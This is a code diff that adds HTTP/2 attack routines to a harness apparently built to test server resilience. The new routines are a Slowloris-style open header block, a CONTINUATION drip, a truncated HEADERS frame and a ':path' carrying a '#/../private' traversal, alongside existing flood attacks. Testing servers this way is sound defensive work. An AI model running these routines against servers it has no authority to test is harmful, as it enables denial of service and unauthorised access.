@@ -193,6 +193,68 @@ def continuation_flood(addr, authority, megabytes):
     return c.report
 
 
+def _open_block(c, authority, path):
+    """A HEADERS frame for stream 1 without END_HEADERS: a header block left open."""
+    start = HeadersFrame(1)
+    start.data = c.enc.encode(
+        [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
+    )
+    start.flags.add("END_STREAM")
+    return start.serialize()
+
+
+def _cut(c, started, seconds, between=None):
+    """Waits up to `seconds` for the server to end the connection (GOAWAY or close), calling
+    between() every half second; reports when, counted from `started`."""
+    deadline = started + seconds
+    while time.monotonic() < deadline:
+        c.read(0.5, until=lambda r: r["goaway"] is not None)
+        if c.report["closed"] or c.report["goaway"] is not None:
+            break
+        if between is not None:
+            between()
+    c.report["cut_after"] = time.monotonic() - started
+    c.read(1)
+    return c.report
+
+
+def slow_head(addr, authority, seconds):
+    """Slowloris over HTTP/2: a header block opened, then silence."""
+    c = Conn(addr)
+    c.read(0.2)
+    started = time.monotonic()
+    c.send(_open_block(c, authority, "/slow-head"))
+    return _cut(c, started, seconds)
+
+
+def drip_head(addr, authority, seconds):
+    """A header block kept open with one small CONTINUATION every half second."""
+    c = Conn(addr)
+    c.read(0.2)
+    started = time.monotonic()
+    c.send(_open_block(c, authority, "/drip-head"))
+    piece = Encoder().encode([("x-drip", "a")])
+    return _cut(c, started, seconds, lambda: c.send(ContinuationFrame(1, data=piece).serialize()))
+
+
+def partial_head_frame(addr, authority, seconds):
+    """A complete HEADERS frame (END_HEADERS) whose payload never arrives whole."""
+    c = Conn(addr)
+    c.read(0.2)
+    frame = c.request(1, authority, "/partial-head")
+    started = time.monotonic()
+    c.send(frame[: len(frame) - 3])
+    return _cut(c, started, seconds)
+
+
+def fragment_path(addr, authority, _n):
+    """A :path carrying a #fragment (which no browser sends): reports the status."""
+    c = Conn(addr)
+    c.send(c.request(1, authority, "/frag-h2?q=1#/../private"))
+    c.read(5, until=lambda r: "1" in r["statuses"])
+    return c.report
+
+
 def settings_flood(addr, authority, n):
     """Thousands of SETTINGS frames, never reading the ACKs the server owes."""
     c = Conn(addr)
@@ -380,6 +442,10 @@ ATTACKS = {
     "cl_mismatch": cl_mismatch,
     "reset_in_flight": reset_in_flight,
     "drain_probe": drain_probe,
+    "slow_head": slow_head,
+    "fragment_path": fragment_path,
+    "drip_head": drip_head,
+    "partial_head_frame": partial_head_frame,
     "ok": ok,
 }
 
